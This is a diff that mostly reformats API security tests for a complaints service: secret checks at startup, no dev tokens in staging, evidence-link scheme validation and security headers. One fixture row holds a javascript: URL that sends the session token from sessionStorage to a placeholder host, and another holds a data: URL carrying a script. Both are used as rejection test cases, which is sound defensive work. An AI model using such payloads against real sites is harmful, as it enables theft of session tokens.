@@ -13,18 +13,26 @@ import { callers, errorOf, openBody, party, putOrder, useApiHarness } from './su
 
 const ROOT = path.resolve(__dirname, '../..');
 /** Real secrets: an HS256 key of 32 bytes or more and a carrier secret of its own. */
-const REAL_SECRETS = { JWT_SECRET: 'a-deployment-secret-of-32-bytes-or-more', CARRIER_SECRETS: '*=a-carrier-secret-of-its-own' };
+const REAL_SECRETS = {
+  JWT_SECRET: 'a-deployment-secret-of-32-bytes-or-more',
+  CARRIER_SECRETS: '*=a-carrier-secret-of-its-own',
+};
 
 /** Starts the API process as an operator would and waits for it to stop (or kills it after `ms`). */
 function runApi(env: Record<string, string>, ms = 30_000): Promise<{ code: number | null; output: string }> {
   return new Promise((resolve) => {
-    const child = execFile(process.execPath, ['--import', 'tsx', 'api/main.ts'], {
-      cwd: ROOT,
-      // Nothing of the test's own environment: an operator's server has only what it was given.
-      env: { PATH: process.env.PATH ?? '', API_PORT: '0', MONGODB_URI: 'mongodb://127.0.0.1:1/none', ...env },
-      timeout: ms,
-      killSignal: 'SIGKILL',
-    }, (_err, stdout, stderr) => resolve({ code: child.exitCode, output: `${stdout}${stderr}` }));
+    const child = execFile(
+      process.execPath,
+      ['--import', 'tsx', 'api/main.ts'],
+      {
+        cwd: ROOT,
+        // Nothing of the test's own environment: an operator's server has only what it was given.
+        env: { PATH: process.env.PATH ?? '', API_PORT: '0', MONGODB_URI: 'mongodb://127.0.0.1:1/none', ...env },
+        timeout: ms,
+        killSignal: 'SIGKILL',
+      },
+      (_err, stdout, stderr) => resolve({ code: child.exitCode, output: `${stdout}${stderr}` }),
+    );
   });
 }
 
@@ -32,12 +40,16 @@ describe('a deployment that is not development mode', () => {
   it.each([
     ['NODE_ENV=staging', { NODE_ENV: 'staging' }],
     ['NODE_ENV unset', {}],
-  ])('refuses to start on the dev secret with %s', async (_what, env) => {
-    const { code, output } = await runApi(env);
-    expect(code).not.toBe(0);
-    expect(code).not.toBeNull();
-    expect(output).toMatch(/JWT_SECRET/);
-  }, 40_000);
+  ])(
+    'refuses to start on the dev secret with %s',
+    async (_what, env) => {
+      const { code, output } = await runApi(env);
+      expect(code).not.toBe(0);
+      expect(code).not.toBeNull();
+      expect(output).toMatch(/JWT_SECRET/);
+    },
+    40_000,
+  );
 
   it('refuses an HS256 secret shorter than 32 bytes', async () => {
     const { code, output } = await runApi({ NODE_ENV: 'staging', ...REAL_SECRETS, JWT_SECRET: 'x'.repeat(31) });
@@ -73,13 +85,24 @@ describe('an API with real secrets, NODE_ENV=staging', () => {
   const as = callers(p.customerId, p.merchantId);
 
   it('mints no dev token: the console has no dev sign-in', async () => {
-    expect((await request(h.app).post('/console/dev-token').send({ role: 'supervisor', sub: 'anyone' })).status).toBe(404);
+    expect((await request(h.app).post('/console/dev-token').send({ role: 'supervisor', sub: 'anyone' })).status).toBe(
+      404,
+    );
     expect((await request(h.app).get('/console/config.json')).body).toMatchObject({ devSignIn: false });
   });
 
   it('refuses an http: evidence link with 400 naming the field', async () => {
-    const res = await request(h.app).post('/v1/complaints').set('authorization', await h.bearer(as.agent))
-      .send(openBody(p, { evidence: [{ kind: 'photo', url: 'https://img.example.com/a.jpg' }, { kind: 'photo', url: 'http://img.example.com/b.jpg' }] }));
+    const res = await request(h.app)
+      .post('/v1/complaints')
+      .set('authorization', await h.bearer(as.agent))
+      .send(
+        openBody(p, {
+          evidence: [
+            { kind: 'photo', url: 'https://img.example.com/a.jpg' },
+            { kind: 'photo', url: 'http://img.example.com/b.jpg' },
+          ],
+        }),
+      );
     expect(res.status).toBe(400);
     expect(errorOf(res).details.map((d) => d.path)).toEqual(['evidence.1.url']);
   });
@@ -94,19 +117,31 @@ describe('evidence links in development mode', () => {
     ['javascript:', "javascript:fetch('//x/?'+sessionStorage.token)"],
     ['data:', 'data:text/html,<script>alert(1)</script>'],
     ['ftp:', 'ftp://files.example.com/a.jpg'],
-  ])('refuses a %s link with 400 naming the field, when opening a case and when adding evidence', async (_scheme, url) => {
-    const opened = await request(h.app).post('/v1/complaints').set('authorization', await h.bearer(as.customer)).send(openBody(p, { evidence: [{ kind: 'photo', url }] }));
-    expect(opened.status).toBe(400);
-    expect(errorOf(opened).details.map((d) => d.path)).toContain('evidence.0.url');
+  ])(
+    'refuses a %s link with 400 naming the field, when opening a case and when adding evidence',
+    async (_scheme, url) => {
+      const opened = await request(h.app)
+        .post('/v1/complaints')
+        .set('authorization', await h.bearer(as.customer))
+        .send(openBody(p, { evidence: [{ kind: 'photo', url }] }));
+      expect(opened.status).toBe(400);
+      expect(errorOf(opened).details.map((d) => d.path)).toContain('evidence.0.url');
 
-    const added = await request(h.app).post(`/v1/complaints/cmp.${p.customerId}.${p.orderId}.quality_defect/evidence`).set('authorization', await h.bearer(as.agent)).send({ items: [{ kind: 'photo', url }] });
-    expect(added.status).toBe(400);
-    expect(errorOf(added).details.map((d) => d.path)).toContain('items.0.url');
-  });
+      const added = await request(h.app)
+        .post(`/v1/complaints/cmp.${p.customerId}.${p.orderId}.quality_defect/evidence`)
+        .set('authorization', await h.bearer(as.agent))
+        .send({ items: [{ kind: 'photo', url }] });
+      expect(added.status).toBe(400);
+      expect(errorOf(added).details.map((d) => d.path)).toContain('items.0.url');
+    },
+  );
 
   it('accepts an http: link in development', async () => {
     putOrder(h.sandbox, p);
-    const res = await request(h.app).post('/v1/complaints').set('authorization', await h.bearer(as.customer)).send(openBody(p, { evidence: [{ kind: 'photo', url: 'http://127.0.0.1:3100/photo.jpg' }] }));
+    const res = await request(h.app)
+      .post('/v1/complaints')
+      .set('authorization', await h.bearer(as.customer))
+      .send(openBody(p, { evidence: [{ kind: 'photo', url: 'http://127.0.0.1:3100/photo.jpg' }] }));
     expect(res.status).toBe(201);
   });
 });
@@ -114,7 +149,13 @@ describe('evidence links in development mode', () => {
 describe('security headers', () => {
   const h = useApiHarness();
   const directives = (header: string | undefined) =>
-    new Map((header ?? '').split(';').map((d) => d.trim().split(/\s+/)).filter((d) => d[0]).map(([name, ...values]) => [name, values]));
+    new Map(
+      (header ?? '')
+        .split(';')
+        .map((d) => d.trim().split(/\s+/))
+        .filter((d) => d[0])
+        .map(([name, ...values]) => [name, values]),
+    );
 
   it('serves the console with a strict Content-Security-Policy, no framing, nosniff and a referrer policy', async () => {
     const res = await request(h.app).get('/console/');
@@ -126,7 +167,9 @@ describe('security headers', () => {
     expect(csp.get('frame-ancestors')).toEqual(["'none'"]);
     expect(res.headers['x-content-type-options']).toBe('nosniff');
     expect(res.headers['x-frame-options']).toBe('DENY');
-    expect(res.headers['referrer-policy']).toMatch(/^(no-referrer|same-origin|strict-origin|strict-origin-when-cross-origin)$/);
+    expect(res.headers['referrer-policy']).toMatch(
+      /^(no-referrer|same-origin|strict-origin|strict-origin-when-cross-origin)$/,
+    );
   });
 
   it('loads the console page without inline script: every script is a file from here', async () => {
